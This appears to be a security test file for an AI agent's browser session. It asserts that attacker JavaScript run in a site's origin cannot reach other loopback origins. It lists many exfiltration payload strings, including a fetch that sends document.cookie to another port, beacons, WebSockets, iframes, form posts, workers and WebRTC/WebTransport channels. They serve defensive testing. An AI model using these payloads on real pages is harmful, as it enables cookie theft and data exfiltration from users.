"""The browser context itself keeps a page on the target's origin, whatever script runs in it.

Each case runs attacker JavaScript *in the site's own origin* (as a `javascript:` URL or an
XSS on the site would) and waits until the browser has finished the attempt; then no listener
on another loopback origin may have seen a connection or a datagram.
"""

from __future__ import annotations

from collections.abc import AsyncIterator

import pytest
import pytest_asyncio
from playwright.async_api import BrowserContext
from security_listeners import Listeners

from agent.browser import BrowserSession
from sites import RunningSite

pytestmark = pytest.mark.browser

# Every attempt resolves (or gives up after 2.5 s) in the page before the listeners are read.
SETTLE = """
const settle = (p, ms = 2500) =>
  Promise.race([p, new Promise(r => setTimeout(() => r('gave up'), ms))]).catch(e => 'error');
const loaded = el =>
  new Promise(r => { el.onload = () => r('load'); el.onerror = () => r('error'); });
"""

ATTEMPTS: dict[str, str] = {
    "fetch-other-port": (
        "await settle(fetch('http://127.0.0.1:{PORT}/x?c=' + document.cookie, {mode: 'no-cors'}))"
    ),
    "fetch-other-host": ("await settle(fetch('http://127.0.0.2:{OTHER}/x', {mode: 'no-cors'}))"),
    "https-other-host": ("await settle(fetch('https://127.0.0.2:{OTHER}/x', {mode: 'no-cors'}))"),
    "xhr": (
        "await settle(new Promise(r => { const x = new XMLHttpRequest(); x.onloadend = "
        "r; x.open('GET', 'http://127.0.0.2:{OTHER}/'); x.send(); }))"
    ),
    "image": (
        "const i = new Image(); const p = loaded(i); i.src = "
        "'http://127.0.0.2:{OTHER}/i.png'; await settle(p)"
    ),
    "beacon": (
        "navigator.sendBeacon('http://127.0.0.2:{OTHER}/b', document.title); await "
        "settle(fetch('/'))"
    ),
    "event-source": (
        "await settle(new Promise(r => { const e = new "
        "EventSource('http://127.0.0.2:{OTHER}/s'); e.onerror = r; e.onopen = r; }))"
    ),
    "websocket-other-host": (
        "await settle(new Promise(r => { const w = new "
        "WebSocket('ws://127.0.0.2:{OTHER}/'); w.onerror = r; w.onopen = r; }))"
    ),
    "websocket-other-port": (
        "await settle(new Promise(r => { const w = new "
        "WebSocket('ws://127.0.0.1:{PORT}/'); w.onerror = r; w.onopen = r; }))"
    ),
    "iframe": (
        "const f = document.createElement('iframe'); const p = loaded(f); f.src = "
        "'http://127.0.0.2:{OTHER}/'; document.body.append(f); await settle(p)"
    ),
    "data-iframe-websocket": (
        "const f = document.createElement('iframe'); f.src = "
        "\"data:text/html,<script>const w = new WebSocket('ws://127.0.0.2:{OTHER}/'); "
        "w.onerror = () => parent.postMessage('done', '*');</script>\"; const p = new "
        "Promise(r => addEventListener('message', r)); document.body.append(f); await "
        "settle(p)"
    ),
    "stylesheet": (
        "const l = document.createElement('link'); l.rel = 'stylesheet'; const p = "
        "loaded(l); l.href = 'http://127.0.0.2:{OTHER}/s.css'; document.head.append(l); "
        "await settle(p)"
    ),
    "preconnect": (
        "for (const rel of ['preconnect', 'dns-prefetch', 'prefetch']) { const l = "
        "document.createElement('link'); l.rel = rel; l.href = "
        "'http://127.0.0.2:{OTHER}/'; document.head.append(l); } await settle(fetch('/'))"
    ),
    "form-post": (
        "const f = document.createElement('form'); f.method = 'post'; f.action = "
        "'http://127.0.0.2:{OTHER}/'; f.target = 'sink'; const i = "
        "document.createElement('iframe'); i.name = 'sink'; const p = loaded(i); "
        "document.body.append(i, f); f.submit(); await settle(p)"
    ),
    "worker-fetch": (
        "const w = new Worker(URL.createObjectURL(new "
        "Blob([\"fetch('http://127.0.0.2:{OTHER}/').finally(() => postMessage(1))\"]))); "
        "await settle(new Promise(r => { w.onmessage = r; }))"
    ),
    "webrtc-stun-udp": (
        "const pc = new RTCPeerConnection({iceServers: [{urls: "
        "'stun:127.0.0.2:{UDP}'}]}); pc.createDataChannel('x'); await "
        "pc.setLocalDescription(await pc.createOffer()); await settle(new Promise(r => { "
        "const done = () => pc.iceGatheringState === 'complete' && r(); "
        "pc.onicegatheringstatechange = done; done(); }))"
    ),
    "webrtc-turn-tcp": (
        "const pc = new RTCPeerConnection({iceServers: [{urls: "
        "'turn:127.0.0.2:{OTHER}?transport=tcp', username: 'u', credential: 'c'}]}); "
        "pc.createDataChannel('x'); await pc.setLocalDescription(await "
        "pc.createOffer()); await settle(new Promise(r => { const done = () => "
        "pc.iceGatheringState === 'complete' && r(); pc.onicegatheringstatechange = "
        "done; done(); }))"
    ),
    "webtransport-udp": (
        "await settle((async () => { const t = new "
        "WebTransport('https://127.0.0.2:{UDP}/'); await t.ready; })())"
    ),
}


@pytest_asyncio.fixture(loop_scope="session")
async def context(browser: BrowserSession, shop_site: RunningSite) -> AsyncIterator[BrowserContext]:
    made = await browser.new_context(shop_site.base_url)
    try:
        yield made
    finally:
        await made.close()


@pytest.mark.parametrize("attempt", list(ATTEMPTS))
async def test_script_in_the_site_origin_reaches_no_other_origin(
    attempt: str, context: BrowserContext, listeners: Listeners
) -> None:
    page = await context.new_page()
    await page.goto("/")
    body = listeners.fill(ATTEMPTS[attempt])
    await page.evaluate(f"async () => {{ {SETTLE} {body}; }}")
    await page.goto("/")  # the page that made the attempt is gone
    assert listeners.reached() == []


async def test_same_origin_traffic_still_flows(context: BrowserContext) -> None:
    page = await context.new_page()
    response = await page.goto("/search?q=mug")
    assert response is not None and response.ok
    status = await page.evaluate("fetch('/cart').then(r => r.status)")
    assert status == 200


async def test_refused_connections_are_recorded(
    browser: BrowserSession, context: BrowserContext, listeners: Listeners
) -> None:
    page = await context.new_page()
    await page.goto("/")
    target = f"127.0.0.2:{listeners.other_port}"
    await page.evaluate(
        f"async () => {{ {SETTLE} await settle(fetch('http://{target}/', {{mode: 'no-cors'}})); }}"
    )
    assert target in [b.target for b in browser.blocked]
    assert listeners.reached() == []
